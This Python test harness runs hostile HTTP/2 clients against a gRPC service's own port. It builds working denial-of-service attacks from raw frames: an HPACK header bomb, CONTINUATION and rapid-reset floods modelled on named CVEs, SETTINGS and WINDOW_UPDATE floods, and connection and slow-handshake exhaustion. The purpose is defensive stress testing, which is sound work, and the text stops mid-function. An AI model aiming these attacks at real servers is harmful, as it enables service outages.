"""Hostile HTTP/2 and TLS clients against a kvpick gRPC port, for the e2e tests
(e2e/tests/test_hostile_h2.py) and the adversarial soak.

Every attack opens its own connection(s), crafts the frames itself (HPACK from PyPI ``hpack`` for
the well-formed parts, the server's frames parsed with ``hyperframe``; the hostile parts are built
byte by byte) and reports what the server did. ``health_check`` is the well-behaved client beside
them (PyPI ``h2``). Each function's running time is bounded by its
``timeout`` / ``hold`` argument (plus the connect time, itself bounded by ``timeout``); none
retries.

    from hostile_h2 import header_bomb
    out = header_bomb("127.0.0.1", port, block_bytes=64 * 1024)
    assert out.goaway_code == ENHANCE_YOUR_CALM and out.closed
"""

from __future__ import annotations

import os
import select
import selectors
import socket
import ssl
import struct
import time
from dataclasses import dataclass, field
from typing import Callable

import h2.config
import h2.connection
import h2.events
import hpack
from hyperframe.frame import (ContinuationFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MAX_FRAME_SIZE = 16_384  # what kvpick advertises (SETTINGS_MAX_FRAME_SIZE)

# Frame types and flags.
DATA, HEADERS, SETTINGS, CONTINUATION = 0x0, 0x1, 0x4, 0x9
RST_STREAM, PING, WINDOW_UPDATE = 0x3, 0x6, 0x8
END_STREAM, END_HEADERS = 0x1, 0x4
SETTINGS_INITIAL_WINDOW_SIZE = 0x4

EXT_PROC_PATH = "/envoy.service.ext_proc.v3.ExternalProcessor/Process"

# HTTP/2 error codes (RFC 9113 §7).
NO_ERROR = 0x0
PROTOCOL_ERROR = 0x1
FRAME_SIZE_ERROR = 0x6
COMPRESSION_ERROR = 0x9
ENHANCE_YOUR_CALM = 0xB


@dataclass
class Outcome:
    """What the server did with one hostile connection."""

    goaway_code: int | None = None
    """Error code of the server's GOAWAY, if one arrived."""
    last_stream_id: int | None = None
    debug: bytes = b""
    closed: bool = False
    """The server closed the connection (EOF or reset) within the bound."""
    sent_all: bool = True
    """Every attack byte was written before the server stopped reading."""
    elapsed: float = 0.0
    frames: list[str] = field(default_factory=list)
    """Types of the server's frames, in order."""


def frame(kind: int, flags: int, stream_id: int, payload: bytes, length: int | None = None) -> bytes:
    """One raw frame; ``length`` overrides the declared payload length (for lying headers)."""
    n = len(payload) if length is None else length
    return struct.pack(">I", n)[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def hpack_int(value: int, prefix: int, first: int = 0) -> bytes:
    """An HPACK integer (RFC 7541 §5.1) with ``first``'s high bits above a ``prefix``-bit prefix."""
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(raw: bytes) -> bytes:
    """A string literal without Huffman coding."""
    return hpack_int(len(raw), 7) + raw


def request_block(path: str = "/grpc.health.v1.Health/Check", extra=()) -> bytes:
    """A well-formed gRPC request header block from a fresh HPACK encoder."""
    headers = [(":method", "POST"), (":scheme", "http"), (":path", path),
               (":authority", "kvpick"), ("content-type", "application/grpc"),
               ("te", "trailers"), *extra]
    return hpack.Encoder().encode(headers)


def block_frames(block: bytes, stream_id: int = 1, frame_bytes: int = MAX_FRAME_SIZE,
                 end_stream: bool = True) -> bytes:
    """``block`` as HEADERS + CONTINUATION frames of at most ``frame_bytes`` each."""
    chunks = [block[i:i + frame_bytes] for i in range(0, len(block), frame_bytes)] or [b""]
    out = b""
    for i, chunk in enumerate(chunks):
        flags = END_HEADERS if i + 1 == len(chunks) else 0
        if i == 0:
            out += frame(HEADERS, flags | (END_STREAM if end_stream else 0), stream_id, chunk)
        else:
            out += frame(CONTINUATION, flags, stream_id, chunk)
    return out


def tls_context() -> ssl.SSLContext:
    """A client context for kvpick's self-signed certificate, offering h2."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    return ctx


def open_socket(host: str, port: int, tls: bool = False, timeout: float = 5.0) -> socket.socket:
    """A TCP connection, or a TLS one with its handshake done (ALPN h2)."""
    sock = socket.create_connection((host, port), timeout=timeout)
    if tls:
        sock = tls_context().wrap_socket(sock, server_hostname="kvpick")
    return sock


def connect(host: str, port: int, tls: bool = False, timeout: float = 5.0) -> socket.socket:
    """``open_socket`` that has also sent the client preface and an empty SETTINGS."""
    sock = open_socket(host, port, tls=tls, timeout=timeout)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    return sock


def _server_frames(data: bytes):
    """Parses the server's bytes into hyperframe frames (a trailing partial frame is ignored)."""
    out = []
    while len(data) >= 9:
        f, length = Frame.parse_frame_header(memoryview(data[:9]))
        if len(data) < 9 + length:
            break
        f.parse_body(memoryview(data[9:9 + length]))
        out.append(f)
        data = data[9 + length:]
    return out


def run_attack(host: str, port: int, attack: bytes, *, tls: bool = False,
               timeout: float = 10.0) -> Outcome:
    """Sends ``attack`` after the preface on a new connection and reads what the server answers
    until it closes the connection or ``timeout`` seconds pass (the bound of this function)."""
    start = time.monotonic()
    deadline = start + timeout
    out = Outcome()
    sock = connect(host, port, tls=tls, timeout=timeout)
    try:
        try:
            sock.sendall(attack)
        except OSError:
            out.sent_all = False
        received = b""
        while time.monotonic() < deadline:
            sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                chunk = sock.recv(65536)
            except (socket.timeout, TimeoutError):
                break
            except OSError:  # reset: closed, whatever arrived before counts
                out.closed = True
                break
            if not chunk:
                out.closed = True
                break
            received += chunk
        for f in _server_frames(received):
            out.frames.append(type(f).__name__)
            if isinstance(f, GoAwayFrame) and out.goaway_code is None:
                out.goaway_code = f.error_code
                out.last_stream_id = f.last_stream_id
                out.debug = bytes(f.additional_data)
    finally:
        sock.close()
    out.elapsed = time.monotonic() - start
    return out


def bomb_block(block_bytes: int, entry_bytes: int = 4000) -> bytes:
    """Issue 24's header bomb: a request that inserts one ``entry_bytes`` entry into the HPACK
    dynamic table, then references it (one byte each, index 62) until the block is
    ``block_bytes`` long. 64 KiB decodes to ~250 MB, 1 MiB to ~4 GiB."""
    block = request_block() + b"\x40" + hpack_string(b"x-bomb") + hpack_string(b"b" * entry_bytes)
    return block + bytes([0x80 | 62]) * max(0, block_bytes - len(block))


def header_bomb(host: str, port: int, *, block_bytes: int = 64 * 1024, entry_bytes: int = 4000,
                frame_bytes: int = MAX_FRAME_SIZE, tls: bool = False,
                timeout: float = 10.0) -> Outcome:
    """Sends the header bomb (``bomb_block``) as HEADERS + CONTINUATION frames of
    ``frame_bytes``. kvpick answers GOAWAY(ENHANCE_YOUR_CALM) and closes. Bounded by
    ``timeout`` seconds."""
    attack = block_frames(bomb_block(block_bytes, entry_bytes), frame_bytes=frame_bytes)
    return run_attack(host, port, attack, tls=tls, timeout=timeout)


def continuation_flood(host: str, port: int, *, frames: int = 10_000, tls: bool = False,
                       timeout: float = 10.0) -> Outcome:
    """A HEADERS frame followed by ``frames`` empty CONTINUATION frames that never end the block
    (CVE-2024-27316's shape). kvpick answers GOAWAY(ENHANCE_YOUR_CALM) after 8. Bounded by
    ``timeout`` seconds."""
    attack = frame(HEADERS, END_STREAM, 1, request_block())
    attack += frame(CONTINUATION, 0, 1, b"") * frames
    return run_attack(host, port, attack, tls=tls, timeout=timeout)


def oversized_frame(host: str, port: int, *, length: int = MAX_FRAME_SIZE + 1,
                    kind: int = DATA, tls: bool = False, timeout: float = 10.0) -> Outcome:
    """A frame of ``length`` payload bytes (default one over the advertised maximum) on stream 1,
    after a request opened it. kvpick answers GOAWAY(FRAME_SIZE_ERROR). Bounded by ``timeout``
    seconds."""
    attack = block_frames(request_block(), end_stream=False)
    attack += frame(kind, 0, 1, b"\0" * length)
    return run_attack(host, port, attack, tls=tls, timeout=timeout)


def bad_table_size_update(host: str, port: int, *, where: str = "above",
                          tls: bool = False, timeout: float = 10.0) -> Outcome:
    """A request whose block carries a dynamic table size update kvpick must refuse:
    ``where="above"`` = 4097 at the start (over SETTINGS_HEADER_TABLE_SIZE), ``"middle"`` = a
    valid size after the first field (RFC 7541 §4.2: only at the start). kvpick answers
    GOAWAY(COMPRESSION_ERROR). Bounded by ``timeout`` seconds."""
    block = request_block()
    if where == "above":
        block = hpack_int(4097, 5, 0x20) + block
    elif where == "middle":
        block = block[:1] + hpack_int(0, 5, 0x20) + block[1:]
    else:
        raise ValueError(f"where must be 'above' or 'middle', not {where!r}")
    return run_attack(host, port, block_frames(block), tls=tls, timeout=timeout)


def health_check(host: str, port: int, *, service: str = "liveness", tls: bool = False,
                 timeout: float = 5.0) -> bool:
    """A well-behaved client (PyPI ``h2``, a complete HTTP/2 implementation): one gRPC
    ``grpc.health.v1.Health/Check`` on a new connection. True when the server answers it with
    ``grpc-status: 0``. Bounded by ``timeout`` seconds."""
    deadline = time.monotonic() + timeout
    message = b"\x0a" + hpack_int(len(service), 7) + service.encode()  # field 1, < 128 bytes
    body = b"\x00" + struct.pack(">I", len(message)) + message
    conn = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    sock = open_socket(host, port, tls=tls, timeout=timeout)
    try:
        conn.initiate_connection()
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, [
            (":method", "POST"), (":scheme", "https" if tls else "http"),
            (":path", "/grpc.health.v1.Health/Check"), (":authority", "kvpick"),
            ("content-type", "application/grpc"), ("te", "trailers")])
        conn.send_data(stream, body, end_stream=True)
        sock.sendall(conn.data_to_send())
        status = None
        while time.monotonic() < deadline:
            sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                chunk = sock.recv(65536)
            except OSError:
                return False
            if not chunk:
                return False
            for event in conn.receive_data(chunk):
                if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                    status = dict(event.headers).get("grpc-status", status)
                elif isinstance(event, h2.events.StreamEnded):
                    return status == "0"
                elif isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                    return False
            sock.sendall(conn.data_to_send())
        return False
    finally:
        sock.close()


@dataclass
class HeldOutcome:
    """What the server did with connections a client holds open."""

    opened: int = 0
    refused: int = 0
    """Closed by the server before it sent anything (accept-and-close over a limit)."""
    closed: int = 0
    """Closed by the server after answering (GOAWAY or a timeout), within the hold."""
    goaways: dict[int, int] = field(default_factory=dict)
    """GOAWAY error code -> connections that got one."""
    still_open: int = 0
    elapsed: float = 0.0
    close_times: list[float] = field(default_factory=list)
    """Seconds from the start of connecting to the server's close, per closed connection."""


def _hold(socks: list[socket.socket], opened_at: list[float], hold: float,
          out: HeldOutcome) -> None:
    """Reads every socket until the server closes it or ``hold`` seconds pass."""
    sel = selectors.DefaultSelector()
    received: dict[int, bytes] = {}
    for i, s in enumerate(socks):
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ, i)
        received[i] = b""
    deadline = time.monotonic() + hold
    live = len(socks)
    while live and time.monotonic() < deadline:
        for key, _ in sel.select(timeout=max(0.0, deadline - time.monotonic())):
            i, s = key.data, key.fileobj
            try:
                chunk = s.recv(65536)
            except ssl.SSLWantReadError:
                continue
            except OSError:
                chunk = b""
            if chunk:
                received[i] += chunk
                continue
            sel.unregister(s)
            live -= 1
            out.close_times.append(time.monotonic() - opened_at[i])
            if received[i]:
                out.closed += 1
            else:
                out.refused += 1
            for f in _server_frames(received[i]):
                if isinstance(f, GoAwayFrame):
                    out.goaways[f.error_code] = out.goaways.get(f.error_code, 0) + 1
                    break
    out.still_open = live
    sel.close()
    for s in socks:
        s.close()


def _open_and_hold(connections: int, hold: float,
                   open_one: Callable[[], socket.socket]) -> HeldOutcome:
    """Opens ``connections`` sockets with ``open_one`` (an OSError counts as refused) and holds
    them for up to ``hold`` seconds (``_hold``), counting how the server ends them."""
    start = time.monotonic()
    out = HeldOutcome()
    socks, opened_at = [], []
    for _ in range(connections):
        began = time.monotonic()  # before connecting: the server's clocks start after this
        try:
            socks.append(open_one())
            opened_at.append(began)
            out.opened += 1
        except OSError:
            out.refused += 1
    _hold(socks, opened_at, hold, out)
    out.elapsed = time.monotonic() - start
    return out


def many_idle_connections(host: str, port: int, *, connections: int = 100, tls: bool = False,
                          hold: float = 10.0, timeout: float = 5.0) -> HeldOutcome:
    """Opens ``connections`` connections (h2c or TLS), sends each the preface and SETTINGS, never
    opens a stream, and holds them for up to ``hold`` seconds, counting how the server ends
    them: refused (over ``--max-connections``), GOAWAY(NO_ERROR) + close (after
    ``--http2-idle-timeout``), or still open. Bounded by about ``hold`` + ``timeout`` seconds
    per connection that fails to connect."""
    return _open_and_hold(connections, hold, lambda: connect(host, port, tls=tls, timeout=timeout))


def slow_tls_handshake(host: str, port: int, *, connections: int = 10, hold: float = 15.0,
                       timeout: float = 5.0) -> HeldOutcome:
    """Opens ``connections`` TCP connections, sends each the first 3 bytes of a TLS record
    header and then nothing (a handshake that never finishes), and holds them for up to
    ``hold`` seconds: kvpick closes each at ``--tls-handshake-timeout`` (they count as
    ``refused`` here: the server never sends a byte). Bounded by about ``hold`` seconds."""
    def open_one() -> socket.socket:
        s = socket.create_connection((host, port), timeout=timeout)
        s.sendall(b"\x16\x03\x01")
        return s

    return _open_and_hold(connections, hold, open_one)


@dataclass
class FloodOutcome:
    """What the server did with a frame flood, over all the connections it took."""

    connections: int = 0
    frames_sent: int = 0
    """Flood frames written (the streams' HEADERS not included)."""
    goaways: dict[int, int] = field(default_factory=dict)
    """GOAWAY error code -> connections that got one."""
    debug: set[bytes] = field(default_factory=set)
    """Debug data of those GOAWAYs."""
    elapsed: float = 0.0


def open_streams(streams: int, path: str = EXT_PROC_PATH, first_id: int = 1) -> bytes:
    """HEADERS opening ``streams`` gRPC streams that stay open (no END_STREAM, no message), with
    one HPACK encoder (later blocks index the first's headers)."""
    enc = hpack.Encoder()
    headers = [(":method", "POST"), (":scheme", "http"), (":path", path),
               (":authority", "kvpick"), ("content-type", "application/grpc"),
               ("te", "trailers")]
    return b"".join(frame(HEADERS, END_HEADERS, first_id + 2 * i, enc.encode(headers))
                    for i in range(streams))


def settings_frame(initial_window: int) -> bytes:
    return frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, initial_window))


def window_update(stream_id: int, increment: int = 1) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", increment))


def _drain(sock: socket.socket, received: bytearray) -> bool:
    """Reads what the server sent without waiting; False once it closed the connection."""
    while (isinstance(sock, ssl.SSLSocket) and sock.pending()) or select.select([sock], [], [], 0)[0]:
        try:
            chunk = sock.recv(65536)
        except OSError:
            return False
        if not chunk:
            return False
        received += chunk
    return True


def flood(host: str, port: int, *, setup: bytes, unit: bytes, frames_per_unit: int,
          seconds: float = 10.0, reconnect: bool = True, tls: bool = False,
          timeout: float = 5.0) -> FloodOutcome:
    """For ``seconds``: connects, sends ``setup`` (e.g. ``open_streams``), then ``unit`` (a batch
    of flood frames) again and again while reading whatever the server answers, until the
    server closes the connection; then, with ``reconnect``, starts over on a new one. Bounded by
    ``seconds`` plus ``timeout``."""
    start = time.monotonic()
    deadline = start + seconds
    out = FloodOutcome()
    while time.monotonic() < deadline:
        sock = connect(host, port, tls=tls, timeout=timeout)
        out.connections += 1
        received = bytearray()
        try:
            sock.sendall(setup)
            open_ = True
            while open_ and time.monotonic() < deadline:
                try:
                    sock.sendall(unit)
                    out.frames_sent += frames_per_unit
                except OSError:
                    open_ = False
                open_ = _drain(sock, received) and open_
            if not open_:
                # Whatever is left of the server's answer before its close.
                sock.settimeout(max(0.01, min(1.0, deadline - time.monotonic())))
                try:
                    while chunk := sock.recv(65536):
                        received += chunk
                except OSError:
                    pass
        finally:
            sock.close()
        for f in _server_frames(bytes(received)):
            if isinstance(f, GoAwayFrame):
                out.goaways[f.error_code] = out.goaways.get(f.error_code, 0) + 1
                out.debug.add(bytes(f.additional_data))
                break
        if not reconnect:
            break
    out.elapsed = time.monotonic() - start
    return out


def settings_flood(host: str, port: int, *, streams: int = 1000, seconds: float = 10.0,
                   reconnect: bool = True, tls: bool = False) -> FloodOutcome:
    """Issue 45's SETTINGS flood: ``streams`` open ext_proc streams, then SETTINGS frames
    toggling SETTINGS_INITIAL_WINDOW_SIZE (each change walks every open stream in h2). kvpick
    answers GOAWAY(ENHANCE_YOUR_CALM, ``settings_flood``) past 32 frames (2 a second after)."""
    unit = (settings_frame(65_536) + settings_frame(65_535)) * 50
    return flood(host, port, setup=open_streams(streams), unit=unit, frames_per_unit=100,
                 seconds=seconds, reconnect=reconnect, tls=tls)


def window_update_flood(host: str, port: int, *, streams: int = 100, seconds: float = 10.0,
                        reconnect: bool = True, tls: bool = False) -> FloodOutcome:
    """WINDOW_UPDATE frames of 1 byte on the connection and on each of ``streams`` open ext_proc
    streams, with no data received to acknowledge. kvpick answers GOAWAY(ENHANCE_YOUR_CALM,
    ``window_update_flood``) past its burst of 256."""
    unit = b"".join(window_update(0) + window_update(1 + 2 * (i % max(1, streams)))
                    for i in range(100))
    return flood(host, port, setup=open_streams(streams), unit=unit, frames_per_unit=200,
                 seconds=seconds, reconnect=reconnect, tls=tls)


class HeldStreams:
    """``streams`` ext_proc streams opened on one new connection (HEADERS, no message, never
    ended) and held while ``poll`` reads what the server answers: each stream's ``grpc-status``
    (from a trailers-only answer or trailers; kvpick refuses a stream past
    ``--max-ext-proc-streams`` with 8, RESOURCE_EXHAUSTED, or ends with 8 a stream silent for
    ``--ext-proc-evict-idle-after`` to give its place to a new one, and ends one silent for
    ``--ext-proc-idle-timeout`` with 4, DEADLINE_EXCEEDED). The server's SETTINGS and PINGs are
    acknowledged, so only the streams' silence is in question."""

    def __init__(self, host: str, port: int, streams: int, *, tls: bool = False,
                 timeout: float = 5.0) -> None:
        self.sock = connect(host, port, tls=tls, timeout=timeout)
        self.sock.sendall(open_streams(streams))
        self.streams = streams
        self.statuses: dict[int, str] = {}
        self.closed = False
        self._decoder = hpack.Decoder()
        self._buf = b""

    def _frame(self, f) -> None:
        if isinstance(f, SettingsFrame) and "ACK" not in f.flags:
            self.sock.sendall(frame(SETTINGS, 0x1, 0, b""))
        elif isinstance(f, PingFrame) and "ACK" not in f.flags:
            self.sock.sendall(frame(PING, 0x1, 0, bytes(f.opaque_data)))
        elif isinstance(f, (HeadersFrame, ContinuationFrame)):
            # kvpick's header blocks fit one frame: decode each as it comes.
            for name, value in self._decoder.decode(bytes(f.data), raw=True):
                if name == b"grpc-status":
                    self.statuses[f.stream_id] = value.decode()

    def poll(self, seconds: float) -> dict[int, str]:
        """Reads for up to ``seconds``, or until every stream has a status or the server closed
        the connection; returns the statuses so far (stream id -> grpc-status)."""
        deadline = time.monotonic() + seconds
        while (not self.closed and len(self.statuses) < self.streams
               and time.monotonic() < deadline):
            self.sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                chunk = self.sock.recv(65536)
            except (socket.timeout, TimeoutError):
                break
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                break
            self._buf += chunk
            while len(self._buf) >= 9:
                length = int.from_bytes(self._buf[:3], "big")
                if len(self._buf) < 9 + length:
                    break
                f, _ = Frame.parse_frame_header(memoryview(self._buf[:9]))
                f.parse_body(memoryview(self._buf[9:9 + length]))
                self._buf = self._buf[9 + length:]
                self._frame(f)
        return dict(self.statuses)

    def close(self) -> None:
        self.sock.close()


def rapid_reset(host: str, port: int, *, streams: int = 1000, timeout: float = 10.0) -> Outcome:
    """CVE-2023-44487's shape: ``streams`` ext_proc streams each opened and at once reset
    (RST_STREAM CANCEL), in one write. h2 answers GOAWAY(ENHANCE_YOUR_CALM, ``too_many_resets``)
    itself. Bounded by ``timeout`` seconds."""
    enc = hpack.Encoder()
    headers = [(":method", "POST"), (":scheme", "http"), (":path", EXT_PROC_PATH),
               (":authority", "kvpick"), ("content-type", "application/grpc"),
               ("te", "trailers")]
    attack = b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, enc.encode(headers))
                      + frame(RST_STREAM, 0, 1 + 2 * i, struct.pack(">I", 0x8))
                      for i in range(streams))
    return run_attack(host, port, attack, timeout=timeout)


def cpu_seconds(pid: int) -> float:
    """User + system CPU time of a process (all its threads) so far, from /proc/PID/stat."""
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    ticks = os.sysconf("SC_CLK_TCK")
    return (int(fields[11]) + int(fields[12])) / ticks


def process_memory(pid: int) -> dict[str, int]:
    """VmRSS and VmHWM (peak) of a process, in bytes, from /proc/PID/status."""
    values = {}
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            key, _, rest = line.partition(":")
            if key in ("VmRSS", "VmHWM"):
                values[key] = int(rest.split()[0]) * 1024
    return values


def reset_peak_memory(pid: int) -> None:
    """Resets the process's VmHWM to its current RSS (Linux: ``5`` into /proc/PID/clear_refs)."""
    with open(f"/proc/{pid}/clear_refs", "w") as f:
        f.write("5")


# ---------------------------------------------------------------------------------------------
# ext_proc streams on raw frames (issue 45): one client that opens many ext_proc streams on one
# connection, keeps HTTP/2 flow control, looks alive to the server (SETTINGS acknowledged, PINGs
# answered) and counts what the server did to it; ``pump`` drives many of them from one thread.

GOAWAY = 0x7
ACK, PADDED, PRIORITY = 0x1, 0x8, 0x20
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3
MAX_WINDOW = 2**31 - 1
DEFAULT_WINDOW = 65_535

FULL_DUPLEX_STREAMED = 4  # envoy...ext_proc.v3.ProcessingMode.BodySendMode
UNKNOWN_FIELD = 1000  # a ProcessingRequest field number no version defines: prost skips it


def pb_varint(n: int) -> bytes:
    out = bytearray()
    while n >= 0x80:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def pb_bytes(number: int, value: bytes) -> bytes:
    """A length-delimited field (wire type 2)."""
    return pb_varint(number << 3 | 2) + pb_varint(len(value)) + value


def pb_uint(number: int, value: int) -> bytes:
    """A varint field (wire type 0)."""
    return pb_varint(number << 3) + pb_varint(value)


def ext_proc_request_headers(headers, end_of_stream: bool = False) -> bytes:
    """A ``ProcessingRequest`` with ``request_headers`` as Envoy sends them (``raw_value``) and
    ``protocol_config`` FULL_DUPLEX_STREAMED both ways."""
    header_map = b"".join(pb_bytes(1, pb_bytes(1, k.encode()) + pb_bytes(3, v.encode()))
                          for k, v in headers)
    http = pb_bytes(1, header_map) + (pb_uint(3, 1) if end_of_stream else b"")
    config = pb_uint(1, FULL_DUPLEX_STREAMED) + pb_uint(2, FULL_DUPLEX_STREAMED)
    return pb_bytes(2, http) + pb_bytes(11, config)


def chat_request_headers(path: str = "/v1/chat/completions", extra=()) -> list[tuple[str, str]]:
    """The HTTP request headers Envoy forwards for a client's chat request."""
    return [(":method", "POST"), (":scheme", "http"), (":authority", "gateway"),
            (":path", path), ("content-type", "application/json"), *extra]


def ext_proc_request_body(chunk: bytes, end_of_stream: bool = False, padding: int = 0) -> bytes:
    """A ``ProcessingRequest`` with a ``request_body`` chunk and, when ``padding``, that many
    bytes of an unknown field after it (which a decoder must skip)."""
    body = pb_bytes(1, chunk) + (pb_uint(2, 1) if end_of_stream else b"")
    message = pb_bytes(4, body)
    if padding:
        message += pb_bytes(UNKNOWN_FIELD, bytes(padding))
    return message


def grpc_prefix(length: int) -> bytes:
    """gRPC's 5-byte message prefix (uncompressed) announcing ``length`` bytes."""
    return b"\0" + struct.pack(">I", length)


def grpc_message(message: bytes) -> bytes:
    return grpc_prefix(len(message)) + message


@dataclass
class ClientCounts:
    """What the server did to one or more ``H2Client`` connections (``add`` sums them)."""

    connections: int = 0
    connect_failed: int = 0
    streams_opened: int = 0
    streams_ended: int = 0
    """Streams the server ended (END_STREAM or RST_STREAM)."""
    goaways: dict[str, int] = field(default_factory=dict)
    """``CODE`` or ``CODE:debug`` -> connections that got one."""
    resets: dict[int, int] = field(default_factory=dict)
    """RST_STREAM error code -> streams."""
    grpc_status: dict[str, int] = field(default_factory=dict)
    """grpc-status of the streams the server answered with trailers."""
    closed_by_server: int = 0
    bytes_sent: int = 0
    frames_sent: int = 0
    frames_received: int = 0

    def add(self, other: "ClientCounts") -> None:
        for name in ("connections", "connect_failed", "streams_opened", "streams_ended",
                     "closed_by_server", "bytes_sent", "frames_sent", "frames_received"):
            setattr(self, name, getattr(self, name) + getattr(other, name))
        for name in ("goaways", "resets", "grpc_status"):
            mine = getattr(self, name)
            for k, v in getattr(other, name).items():
                mine[k] = mine.get(k, 0) + v


def frame_header(length: int, kind: int, flags: int, stream_id: int) -> bytes:
    return struct.pack(">I", length)[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id)


class H2Client:
    """One HTTP/2 connection on raw frames, non-blocking (``pump`` drives it). It keeps flow
    control for the DATA it is given (``send``), acknowledges SETTINGS, answers PINGs, decodes
    the server's header blocks (for grpc-status) and counts GOAWAYs, resets and ends in
    ``counts``. ``big_windows`` opens its own receive windows to the maximum so the server never
    waits on it. Opening the connection blocks (bounded by ``timeout``)."""

    OUT_HIGH = 1 << 20  # bytes queued for the socket before DATA waits

    def __init__(self, host: str, port: int, *, tls: bool = False, timeout: float = 5.0,
                 big_windows: bool = True, on_end: Callable[["H2Client", int], None] | None = None):
        self.counts = ClientCounts(connections=1)
        self.sock = open_socket(host, port, tls=tls, timeout=timeout)
        self.sock.setblocking(False)
        self.tls = tls
        settings = struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, MAX_WINDOW) if big_windows else b""
        self.out = bytearray(PREFACE + frame(SETTINGS, 0, 0, settings))
        if big_windows:
            self.out += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW - DEFAULT_WINDOW))
        self._retry = 0  # a TLS write that must be repeated with the same length
        self.inbuf = bytearray()
        self.encoder = hpack.Encoder()
        self._encodes: dict[str, int] = {}
        self._blocks: dict[str, bytes] = {}
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 20
        self._block: tuple[int, int, bytearray] | None = None  # (stream, flags, fragments)
        self.send_window = DEFAULT_WINDOW
        self.peer_initial = DEFAULT_WINDOW
        self.windows: dict[int, int] = {}  # open stream -> its send window
        self.pending: dict[int, list] = {}  # stream -> [[memoryview, offset, end_stream], ...]
        self.next_stream = 1
        self.peer_max_streams: int | None = None
        self.goaway: int | None = None
        self.closed = False
        self.on_end = on_end

    # -- what the attack does --------------------------------------------------------------

    def open_stream(self, path: str = EXT_PROC_PATH, end_stream: bool = False) -> int:
        """Sends a gRPC request's HEADERS on a new stream; returns its id."""
        sid = self.next_stream
        self.next_stream += 2
        block = self._blocks.get(path)
        if block is None:
            block = self.encoder.encode([
                (":method", "POST"), (":scheme", "https" if self.tls else "http"),
                (":path", path), (":authority", "kvpick"), ("content-type", "application/grpc"),
                ("te", "trailers")])
            # The second encoding refers to the table entries the first made and leaves the
            # table as it is: every later request's block is those same bytes.
            self._encodes[path] = self._encodes.get(path, 0) + 1
            if self._encodes[path] == 2:
                self._blocks[path] = block
        flags = END_HEADERS | (END_STREAM if end_stream else 0)
        self.out += frame(HEADERS, flags, sid, block)
        self.counts.frames_sent += 1
        self.counts.streams_opened += 1
        if not end_stream:
            self.windows[sid] = self.peer_initial
        return sid

    def send(self, sid: int, data: bytes, end_stream: bool = False) -> None:
        """Queues ``data`` on stream ``sid``: written as DATA frames as its windows allow
        (``data`` is not copied; share one object between streams)."""
        if sid in self.windows and data:
            self.pending.setdefault(sid, []).append([memoryview(data), 0, end_stream])

    def queued(self, sid: int) -> int:
        """Bytes of ``sid`` still waiting for flow-control window."""
        return sum(len(d) - off for d, off, _ in self.pending.get(sid, ()))

    def raw(self, data: bytes, frames: int = 1) -> None:
        """Queues raw bytes (frames the attack built itself)."""
        self.out += data
        self.counts.frames_sent += frames

    @property
    def open_streams(self) -> int:
        return len(self.windows)

    @property
    def alive(self) -> bool:
        return not self.closed and self.goaway is None

    def close(self) -> None:
        if not self.closed:
            self.closed = True
            self.sock.close()

    # -- the event loop's side -----------------------------------------------------------------

    def wants_write(self) -> bool:
        if self.closed:
            return False
        if self.out:
            return True
        return self.send_window > 0 and any(self.windows.get(s, 0) > 0 for s in self.pending)

    def on_writable(self) -> None:
        self._fill()
        while self.out and not self.closed:
            n = self._retry or min(len(self.out), 256 * 1024)
            try:
                sent = self.sock.send(bytes(self.out[:n]))
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                self._retry = n if self.tls else 0
                return
            except OSError:
                self._server_closed()
                return
            self._retry = 0
            del self.out[:sent]
            self.counts.bytes_sent += sent
            if sent < n:
                return
            self._fill()

    def on_readable(self) -> None:
        while not self.closed:
            try:
                chunk = self.sock.recv(256 * 1024)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                break
            except OSError:
                chunk = b""
            if not chunk:
                self._parse()
                self._server_closed()
                return
            self.inbuf += chunk
        self._parse()

    def _server_closed(self) -> None:
        if not self.closed:
            self.counts.closed_by_server += 1
            self.close()

    def _fill(self) -> None:
        """Moves queued DATA into the output as the connection's and streams' windows allow,
        a frame per stream in turn."""
        progressed = True
        while self.pending and progressed and len(self.out) < self.OUT_HIGH:
            progressed = False
            for sid in list(self.pending):
                window = self.windows.get(sid)
                if window is None:
                    del self.pending[sid]
                    continue
                n = min(MAX_FRAME_SIZE, window, self.send_window)
                if n <= 0:
                    continue
                queue = self.pending[sid]
                item = queue[0]
                data, off, end_stream = item
                take = min(n, len(data) - off)
                last = off + take == len(data)
                flags = END_STREAM if last and end_stream else 0
                self.out += frame_header(take, DATA, flags, sid)
                self.out += data[off:off + take]
                self.counts.frames_sent += 1
                self.windows[sid] = window - take
                self.send_window -= take
                progressed = True
                if last:
